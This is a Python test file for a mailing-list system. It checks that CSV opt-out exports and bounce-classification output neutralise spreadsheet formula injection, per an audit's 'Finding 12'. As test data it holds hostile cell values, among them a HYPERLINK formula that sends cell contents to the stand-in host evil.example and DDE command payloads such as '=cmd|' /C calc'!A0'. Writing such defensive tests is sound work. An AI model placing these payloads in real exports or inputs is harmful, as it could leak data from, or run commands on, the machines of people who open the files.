"""Finding 12: CSV exports neutralised names but not addresses (a cell beginning with =, +, -, @, tab or CR)."""

from __future__ import annotations

import csv
import io

from engine import clock
from engine.exports import FORMULA_STARTS, csv_rows, safe_cell
from engine.lists.models import MailingList, OptOut
from tests import factories as f

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)@example.org', "+33612345678@example.org", "-2+3@example.org",
           "@SUM(A1:A9)", "\t=1+1@example.org", "\r=1+1@example.org"]


def test_finding12_every_cell_of_the_opt_out_export_is_neutralised(app, federal):
    ml = MailingList.get(MailingList.local_part == "licencies.provence")
    for address in HOSTILE:  # addresses that reached the opt-outs (a mailto unsubscribe stored what it got)
        OptOut.create(mailing_list=ml, email_key=address, created_at=clock.now(), source="mailto")
    member = f.member(first_name="=cmd|' /C calc'!A0", last_name="+Dupont", email="=1+1@example.org",
                      licence_number="A-13-770001")
    OptOut.create(mailing_list=ml, member=member, created_at=clock.now(), source="=footer")
    response = federal.get(f"/admin/lists/{ml.id}/optouts.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline=""), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert len(rows) == 1 + len(HOSTILE) + 1
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for address in HOSTILE:
        assert "'" + address in cells  # shown as typed, behind the apostrophe spreadsheets hide
    assert {"'=1+1@example.org", "'+Dupont", "'=cmd|' /C calc'!A0", "'=footer"} <= set(cells)


def test_finding12_the_shared_writer_neutralises_header_and_every_row():
    text = "".join(csv_rows(["=header", "ok"], [["-1", None, "plain"], ["@x", "\ttab", "a=b"]]))
    assert text == "'=header;ok\r\n'-1;;plain\r\n'@x;'\ttab;a=b\r\n"
    assert safe_cell("") == "" and safe_cell(12) == "12" and safe_cell("\r\n") == "'\r\n"


def test_finding12_the_bounce_classification_lines_are_neutralised_too(tmp_path):
    """``palanquee bounces classify`` prints tab-separated lines whose addresses come from a returned message."""
    from click.testing import CliRunner

    from engine.bounces.commands import bounces_group

    dsn = ("From: MAILER-DAEMON@example.net\r\nTo: liste-bounces@example.fr\r\nSubject: Undelivered\r\n"
           "MIME-Version: 1.0\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=b\r\n\r\n"
           "--b\r\nContent-Type: text/plain\r\n\r\nFailed.\r\n--b\r\nContent-Type: message/delivery-status\r\n\r\n"
           "Reporting-MTA: dns; mx.example.net\r\n\r\nFinal-Recipient: rfc822; =cmd|calc@example.org\r\n"
           "Action: failed\r\nStatus: 5.1.1\r\n\r\n--b--\r\n")
    hostile = tmp_path / "=HYPERLINK(1)\tx.eml"
    hostile.write_bytes(dsn.encode())
    result = CliRunner().invoke(bounces_group, ["classify", str(hostile)])
    assert result.exit_code == 0, result.output
    [line] = result.output.splitlines()
    cells = line.split("\t")
    assert len(cells) == 4 and cells[1:3] == ["hard", "5.1.1"], cells
    assert cells[3] == "'=cmd|calc@example.org"
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
